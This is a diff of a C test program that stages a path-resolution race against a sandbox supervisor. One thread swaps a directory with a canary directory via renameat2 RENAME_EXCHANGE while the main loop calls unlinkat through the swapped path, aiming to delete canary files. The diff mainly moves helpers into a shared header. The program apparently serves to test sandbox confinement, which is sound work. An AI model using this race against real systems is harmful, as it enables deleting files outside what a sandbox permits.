@@ -2,46 +2,19 @@
 // The supervisor resolves race-d/NAME to the decoy; by the time the kernel walks race-d, the name may
 // belong to the canary directory. Renaming the canary directory is itself an attack on its name.
 #define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <fcntl.h>
+#include "attack.h"
 #include <libgen.h>
 #include <pthread.h>
 #include <stdatomic.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/stat.h>
-#include <sys/syscall.h>
-#include <time.h>
-#include <unistd.h>
-
-#ifndef RENAME_EXCHANGE
-#define RENAME_EXCHANGE 2
-#endif
 
 static atomic_int stop;
 static atomic_long swaps, swap_errs[256];
-static char canary[4096];
-
-static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
-
-// The canary's regular files (top level), as names relative to it: the attack does not assume them.
-static int canary_files(const char *canary, char names[][256], int max) {
-    DIR *d = opendir(canary);
-    int n = 0;
-    struct dirent *e;
-    if (!d) { perror(canary); return 0; }
-    while (n < max && (e = readdir(d)))
-        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
-    closedir(d);
-    return n;
-}
+static char canary_dir[4096];
 
 static void *flipper(void *arg) {
     (void)arg;
     while (!atomic_load(&stop)) {
-        if (syscall(SYS_renameat2, AT_FDCWD, "race-d", AT_FDCWD, canary, RENAME_EXCHANGE) == 0) atomic_fetch_add(&swaps, 1);
+        if (syscall(SYS_renameat2, AT_FDCWD, "race-d", AT_FDCWD, canary_dir, RENAME_EXCHANGE) == 0) atomic_fetch_add(&swaps, 1);
         else atomic_fetch_add(&swap_errs[errno & 255], 1);
     }
     return NULL;
@@ -50,12 +23,12 @@ static void *flipper(void *arg) {
 int main(void) {
     const char *c = getenv("CANARY");
     if (!c) { fprintf(stderr, "CANARY not set\n"); return 2; }
-    snprintf(canary, sizeof canary, "%s", c);
+    snprintf(canary_dir, sizeof canary_dir, "%s", c);
     mkdir("race-d", 0755);
     pthread_t t;
     pthread_create(&t, NULL, flipper, NULL);
     char files[4][256], names[4][300];
-    if (canary_files(canary, files, 4) < 4) { fprintf(stderr, "fewer than 4 canary files\n"); return 2; }
+    if (canary_files(canary_dir, files, 4) < 4) { fprintf(stderr, "fewer than 4 canary_dir files\n"); return 2; }
     for (int i = 0; i < 4; i++) snprintf(names[i], sizeof names[i], "race-d/%s", files[i]);
     long tries = 0, ok = 0, counts[256] = {0};
     double deadline = now() + 4.0;
@@ -67,7 +40,7 @@ int main(void) {
     }
     atomic_store(&stop, 1);
     pthread_join(t, NULL);
-    printf("exchange race-d <-> %s: %ld swaps\n", canary, atomic_load(&swaps));
+    printf("exchange race-d <-> %s: %ld swaps\n", canary_dir, atomic_load(&swaps));
     for (int e = 0; e < 256; e++) if (swap_errs[e]) printf("  swap errno %d (%s): %ld\n", e, strerror(e), atomic_load(&swap_errs[e]));
     printf("unlinkat(race-d/NAME) during the swaps: %ld tries, %ld succeeded\n", tries, ok);
     for (int e = 0; e < 256; e++) if (counts[e]) printf("  errno %d (%s): %ld\n", e, strerror(e), counts[e]);
